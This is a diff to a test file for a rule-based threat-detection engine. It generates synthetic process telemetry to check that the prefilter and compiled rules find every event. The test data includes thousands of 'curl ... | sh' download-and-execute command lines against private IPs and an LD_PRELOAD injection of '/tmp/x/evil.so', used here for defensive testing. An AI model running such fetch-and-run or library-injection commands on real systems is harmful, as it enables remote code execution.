@@ -147,8 +147,8 @@ detection: { s: { '|all': [curl, 'server.js'] }, condition: s }
     }
     // Enough distinct command lines in a row that the prefilter stops remembering them, then repeats again.
     for (let i = 0; i < 2500; i++) {
-      const cl = `curl -o /tmp/f${i}.sh http://10.0.0.${i % 250}/x${i} && bash /tmp/f${i}.sh${i % 100 ? '' : ` # ${'x'.repeat(600)}`}`; // (some too long to remember)
-      events.push({ ...events[i]!, id: 50_000 + i, process: { ...events[i]!.process, executable: '/usr/bin/curl', name: 'curl', command_line: cl, args: cl.split(' ') } });
+      const cl = `sh -c curl -fsSL http://10.0.0.${i % 250}/x${i} | sh${i % 100 ? '' : ` # ${'x'.repeat(600)}`}`; // (some too long to remember)
+      events.push({ ...events[i]!, id: 50_000 + i, process: { ...events[i]!.process, executable: '/usr/bin/dash', name: 'sh', command_line: cl, args: cl.split(' ') } });
     }
     // List fields (environment, argv) are scanned too.
     events.push({ ...events[0]!, id: 20_000, process: { ...events[0]!.process, env_vars: ['HOME=/root', 'LD_PRELOAD=/tmp/x/evil.so'] } } as TelemetryEvent);
@@ -162,7 +162,7 @@ detection: { s: { '|all': [curl, 'server.js'] }, condition: s }
     expect(fast.some((f) => f.startsWith('20000:'))).toBe(true);
     if (folders.length > 1) expect(fast.some((f) => f.startsWith('30000:'))).toBe(true); // auditd: a0 is "id"
     expect(fast.some((f) => f.startsWith('4000'))).toBe(true);
-    expect(fast.filter((f) => f.startsWith('5')).length).toBeGreaterThan(2500); // curl ... | bash: each is found
+    expect(fast.filter((f) => f.startsWith('5')).length).toBeGreaterThanOrEqual(2500); // curl ... | sh: each is found
     expect(fast).toEqual(run(false));
     // Conditions compiled to functions (compiled.ts) find what the interpreted trees find.
     expect(fast).toEqual(run(false, loadRules(sources, { interpret: true })));
